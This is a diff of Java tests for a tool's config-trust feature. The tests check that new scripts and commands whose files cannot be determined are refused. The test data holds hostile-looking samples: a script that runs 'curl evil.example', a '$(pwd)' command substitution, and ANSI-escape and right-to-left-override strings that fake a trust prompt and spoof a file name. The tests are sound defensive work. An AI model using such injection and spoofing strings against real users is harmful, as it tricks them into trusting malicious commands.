@@ -143,6 +143,48 @@ class ConfigTrustRunTest {
     run.token().token();
   }
 
+  @Test
+  void token_afterAScriptAppeared_isRefusedAsNew() {
+    AtmosRun run =
+        AtmosRun.unix()
+            .file("atmos.yaml", FILE.replace("pass show aws", "./get.sh aws"))
+            .command("./get.sh aws", AtmosRun.SECRET);
+    run.run("config", "trust", "--yes");
+    run.token().token();
+    run.file("get.sh", "curl evil.example");
+    run.token()
+        .failed(
+            2,
+            "/project/atmos.yaml:7:28: the script /project/get.sh is not trusted yet: it is new, or"
+                + " you weren't shown it, and wants to run a command; read it, then run: atmos"
+                + " config trust /project/atmos.yaml");
+  }
+
+  @Test
+  void commandWhoseFilesCantBeTold_isNeverTrusted_andTheRestIs() {
+    String untellable = "$(pwd)/get.sh";
+    AtmosRun run =
+        AtmosRun.unix()
+            .file("atmos.yaml", FILE + "x: !exec " + untellable + "\n")
+            .command("pass show aws", AtmosRun.SECRET);
+    assertThat(run.run("config", "trust", "--yes").stderr())
+        .contains(
+            "can't be trusted, because atmos can't tell which files of the project it runs:\n"
+                + "    line 8, x:\n"
+                + "      | $(pwd)/get.sh\n"
+                + "    Put it into a script beside this file, and write: ./SCRIPT\n")
+        .endsWith("Trusted: /project/atmos.yaml\n");
+    run.token().token();
+    run.file("atmos.yaml", FILE.replace("pass show aws", untellable));
+    run.token()
+        .failed(
+            2,
+            "/project/atmos.yaml:7:28: atmos can't tell which files of the project this command"
+                + " runs; put it into a script beside this file, and write: ./SCRIPT");
+    assertThat(run.unchecked("config", "trust", "--yes").exitCode()).isEqualTo(1);
+    assertThat(run.commandsRun()).containsExactly("pass show aws");
+  }
+
   @ParameterizedTest
   @CsvSource({"n", "''", "no", "'yes, but'", "Y e s", "1"})
   void question_answeredWithAnythingElse_trustsNothing(String answer) {
@@ -210,13 +252,12 @@ class ConfigTrustRunTest {
     assertThat(result.stderr())
         .isEqualTo(
             """
-            /project/atmos.yaml is not trusted
-              runs 1 command
+            /project/atmos.yaml
+              can't be trusted, because atmos can't tell which files of the project it runs:
                 line 1, "a\\u{1b}[2J\\u{a}":
                   | ls \\u{1b}[1A\\u{1b}[2K\\u{d}Trust this file? [y/N]
                   | x\\u{202e}gnp.exe \\u{200b}\\u{a0}\\u{9}\\u{85}é
-                Programs on PATH, and files that a command finds itself, may change.
-            Trust these values? [y/N]
+                Put it into a script beside this file, and write: ./SCRIPT
             Nothing was trusted.
             """);
   }
